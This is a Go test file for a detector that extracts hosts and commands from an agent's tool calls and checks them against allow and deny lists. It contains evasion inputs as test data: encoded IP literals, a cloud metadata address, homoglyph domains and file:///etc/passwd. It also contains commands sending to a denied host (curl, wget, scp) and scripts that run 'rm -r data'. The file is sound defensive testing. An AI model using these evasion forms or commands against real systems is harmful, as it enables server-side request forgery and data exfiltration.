package signals

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/conjunct-project/conjunct/action"
	"github.com/conjunct-project/conjunct/engine"
)

func TestHosts(t *testing.T) {
	scope := Scope{Hosts: map[string][]string{"allow": {"good.example", "*.below.example", "::1"}, "deny": {"bad.example", "203.0.113.5"}}}
	tests := []struct {
		name, argument string
		kind           engine.ArgumentKind
		want           string // host, lists, problems of each
		unknown        string
	}{
		{"an address", "https://good.example/a?b=c", engine.URLKind, "good.example allow", ""},
		{"in another case, with a port and a last dot", "HTTPS://GOOD.example.:8443/", engine.URLKind, "good.example allow", ""},
		{"credentials that look like a host", "https://good.example@bad.example/", engine.URLKind, "bad.example deny", ""},
		{"a name that begins like a listed one", "https://good.example.evil.example/", engine.URLKind, "good.example.evil.example", ""},
		{"below an entry with a star", "https://a.below.example/", engine.URLKind, "a.below.example allow", ""},
		{"an entry with a star is not its own name", "https://below.example/", engine.URLKind, "below.example", ""},
		{"ends like an entry with a star", "https://evilbelow.example/", engine.URLKind, "evilbelow.example", ""},
		{"an address literal", "http://169.254.169.254/latest", engine.URLKind, "169.254.169.254 internal_address literal_address", ""},
		{"an address literal that is listed", "http://[::1]:80/", engine.URLKind, "::1 allow", ""},
		{"an address that is listed in another form", "http://[0:0::1]:80/", engine.URLKind, "::1 allow internal_address literal_address", ""},
		{"a number that resolvers read as an address", "http://0x7f000001/", engine.URLKind, "127.0.0.1 internal_address literal_address", ""},
		{"a denied address as a number", "http://3405803781/", engine.URLKind, "203.0.113.5 deny literal_address", ""},
		{"a denied address in octal", "http://0313.0.0161.05/", engine.URLKind, "203.0.113.5 deny literal_address", ""},
		{"a denied address in two parts", "http://203.28933/", engine.URLKind, "203.0.113.5 deny literal_address", ""},
		{"a denied address within one of version 6", "http://[::ffff:203.0.113.5]/", engine.URLKind, "203.0.113.5 deny literal_address", ""},
		{"a denied address in other digits", "http://２０３。0。113。5/", engine.URLKind, "203.0.113.5 deny international_name literal_address", ""},
		{"a number too large for an address", "http://4294967296/", engine.URLKind, "4294967296 literal_address", ""},
		{"a name that begins with a number", "http://3.good.example/", engine.URLKind, "3.good.example", ""},
		{"letters that look Latin", "https://gооd.example/", engine.URLKind, "xn--gd-fmca.example international_name", ""},
		{"no address where there should be one", "good.example", engine.URLKind, "", "not_an_address"},
		{"a path where an address should be", "file:///etc/passwd", engine.URLKind, "", "not_an_address"},
		{"a mail address in any argument", "pat@bad.example", engine.NoKind, "bad.example deny", ""},
		{"an address in any argument", "https://bad.example", engine.NoKind, "bad.example deny", ""},
		{"text that mentions an address", "see https://bad.example", engine.NoKind, "", ""},
		{"the address that a command fetches", "curl -s https://bad.example/x", engine.CommandKind, "bad.example deny", ""},
		{"the machine that a command copies to", "scp a.txt pat@bad.example:/tmp/", engine.CommandKind, "bad.example deny", ""},
		{"a command that reaches out and does not say where", "git push", engine.CommandKind, "", "host_undetermined"},
		{"a denied host without a scheme", "wget -q bad.example/x", engine.CommandKind, "bad.example deny", "host_undetermined"},
		{"a denied host in an option", "curl --proxy=bad.example:80 https://good.example/", engine.CommandKind, "bad.example deny; good.example allow", ""},
		{"a file that is named like a host", "curl -o out.tgz https://good.example/", engine.CommandKind, "good.example allow", ""},
		{"a command that stays", "ls", engine.CommandKind, "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d, problems := New(scope, []Family{Network})
			if len(problems) > 0 {
				t.Fatal(problems)
			}
			facts, unknown := d.Facts(context.Background(), one(tt.argument, tt.kind), World{Dir: "/w", Home: "/home/u"})
			network := facts["network"].(map[string]any)
			if _, err := action.CanonicalValue(facts); err != nil {
				t.Error(err)
			}
			var got []string
			for _, h := range network["seen"].([]any) {
				m := h.(map[string]any)
				got = append(got, strings.Join(strings.Fields(m["host"].(string)+" "+strs(m["lists"])+" "+strs(m["problems"])), " "))
			}
			if s := strings.Join(got, "; "); s != tt.want {
				t.Errorf("got %q, want %q", s, tt.want)
			}
			if s := strings.Join(unknown, "; "); !strings.Contains(s, tt.unknown) || (s == "") != (tt.unknown == "") {
				t.Errorf("unknown: got %q, want %q", s, tt.unknown)
			}
			if _, there := network["hosts"]; there == (len(unknown) > 0) {
				t.Errorf("hosts is there: %v, with %q unknown", there, unknown)
			}
		})
	}
}

func one(value string, kind engine.ArgumentKind) *Call {
	return &Call{Action: engine.Action{Tool: "t", Arguments: map[string]any{"a": value}}, Declared: true,
		Tool: engine.Tool{Name: "t", Effect: engine.Write, Arguments: map[string]engine.Argument{"a": {Type: engine.StringType, Kind: kind}}}}
}

func TestAHostListThatIsNone(t *testing.T) {
	for _, entry := range []string{"", "https://a.example", "a.example/x", "a.*", "*.*.example", "a b.example"} {
		if _, problems := New(Scope{Hosts: map[string][]string{"allow": {entry}}}, []Family{Network}); len(problems) != 1 {
			t.Errorf("%q: got %v, want one problem", entry, problems)
		}
	}
}

func TestAScriptIsReadForWhatItRuns(t *testing.T) {
	dir := t.TempDir()
	if err := os.Mkdir(filepath.Join(dir, "w"), 0o700); err != nil {
		t.Fatal(err)
	}
	write := func(name, text string) {
		if err := os.WriteFile(filepath.Join(dir, "w", name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write("a.sh", "#!/bin/sh\nls\nrm -r data\n")
	write("b.sh", "bash a.sh\n")
	write("loop.sh", "sh loop.sh\n")
	write("big.sh", strings.Repeat("ls\n", maxScript))
	if err := os.Symlink("/w/a.sh", filepath.Join(dir, "w", "link.sh")); err != nil {
		t.Fatal(err)
	}
	files, err := Below(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer files.Close()
	tests := []struct{ line, want, unknown string }{
		{"bash a.sh", "bash a.sh; ls; rm -r data", ""},
		{"bash link.sh", "bash link.sh; ls; rm -r data", ""},
		{"bash -e b.sh", "bash -e b.sh; bash a.sh; ls; rm -r data", ""},
		{". ./a.sh", ". ./a.sh; ls; rm -r data", ""},
		{"bash big.sh", "bash big.sh", ""},
		{"echo x > a.sh; bash a.sh", "", "script_changed"},
		{"cp b.sh ../w/a.sh && bash link.sh", "", "script_changed"},
		{"tar xf x.tar; bash a.sh", "", "script_changed"},
		{"bash a.sh > out", "bash a.sh; ls; rm -r data", ""},
		{"sh loop.sh", "", "too_deep"},
	}
	for _, tt := range tests {
		d, _ := New(Scope{Roots: []string{"/w"}}, []Family{Shell})
		facts, unknown := d.Facts(context.Background(), one(tt.line, engine.CommandKind), World{Files: files, Dir: "/w", Home: "/home/u"})
		var got []string
		for _, c := range facts["shell"].(map[string]any)["seen"].([]any) {
			got = append(got, c.(map[string]any)["text"].(string))
		}
		if s := strings.Join(got, "; "); tt.want != "" && s != tt.want {
			t.Errorf("%s: got %q, want %q", tt.line, s, tt.want)
		}
		if s := strings.Join(unknown, " "); !strings.Contains(s, tt.unknown) || tt.unknown == "" && s != "" {
			t.Errorf("%s: unknown %q, want %q", tt.line, s, tt.unknown)
		}
	}
}

func TestAToolWithoutItsCommandIsUnknown(t *testing.T) {
	d, _ := New(Scope{}, []Family{Shell, Path})
	c := one("", engine.CommandKind)
	c.Action.Arguments = map[string]any{}
	facts, unknown := d.Facts(context.Background(), c, World{Dir: "/w", Home: "/home/u"})
	if _, there := facts["shell"].(map[string]any)["commands"]; there || !strings.Contains(strings.Join(unknown, " "), "no_command") {
		t.Errorf("got %v, %v: nothing to look at is not nothing found", facts, unknown)
	}
}

func TestAFileThatIsSentByName(t *testing.T) {
	d, _ := New(Scope{Roots: []string{"/w"}}, []Family{Path})
	call := func(body string, url bool) *Call {
		c := one(body, engine.ContentKind)
		if url {
			c.Tool.Arguments["url"] = engine.Argument{Type: engine.StringType, Kind: engine.URLKind}
		}
		return c
	}
	for _, tt := range []struct {
		body string
		url  bool
		want int
	}{{"@out.tgz", true, 1}, {"@out.tgz", false, 0}, {"@all of you", true, 0}, {"out.tgz", true, 0}} {
		dir := t.TempDir()
		files, err := Below(dir)
		if err != nil {
			t.Fatal(err)
		}
		facts, _ := d.Facts(context.Background(), call(tt.body, tt.url), World{Files: files, Dir: "/w", Home: "/home/u"})
		if got := len(facts["path"].(map[string]any)["seen"].([]any)); got != tt.want {
			t.Errorf("%q sent %v: %d paths, want %d", tt.body, tt.url, got, tt.want)
		}
		if err := files.Close(); err != nil {
			t.Fatal(err)
		}
	}
}

func TestHostsInsideOfValues(t *testing.T) {
	d, _ := New(Scope{Hosts: map[string][]string{"deny": {"bad.example"}}}, []Family{Network})
	call := one("", engine.NoKind)
	for name := range call.Action.Arguments {
		call.Action.Arguments[name] = map[string]any{"hooks": []any{map[string]any{"url": "https://bad.example/"}}}
	}
	facts, unknown := d.Facts(context.Background(), call, World{Dir: "/w", Home: "/home/u"})
	seen := facts["network"].(map[string]any)["seen"].([]any)
	if len(seen) != 1 || seen[0].(map[string]any)["host"] != "bad.example" || len(unknown) > 0 {
		t.Errorf("got %v, unknown %v", seen, unknown)
	}
}
